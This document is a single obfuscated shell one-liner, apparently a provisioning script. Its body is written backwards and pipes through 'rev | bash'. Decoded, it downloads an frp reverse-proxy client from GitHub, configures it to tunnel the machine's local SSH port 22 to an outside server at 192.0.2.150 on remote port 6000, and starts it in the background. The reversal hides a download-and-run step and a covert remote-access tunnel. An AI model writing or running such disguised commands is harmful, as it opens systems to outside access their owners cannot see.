echo '
& lmot.cprf/tpo/ c- cprf/46dma_xunil_3.25.0_prf/tpo/ puhon
FOE
0006 = troPetomer
22 = troPlacol
"pct" = epyt
"hss" = eman
]]seixorp[[
0007 = troPrevres
"051.2.0.291" = rddArevres
FOE<< lmot.cprf/tpo/ > tac
tpo/ C- zgt.f/pmt/ fzx rat
zgt.f/pmt/ O- zg.rat.46dma_xunil_3.25.0_prf/3.25.0v/daolnwod/sesaeler/prf/reidetaf/moc.buhtig//:sptth q- tegw
hsab/nib/!#
2v 4101 noisivorp #' | rev | bash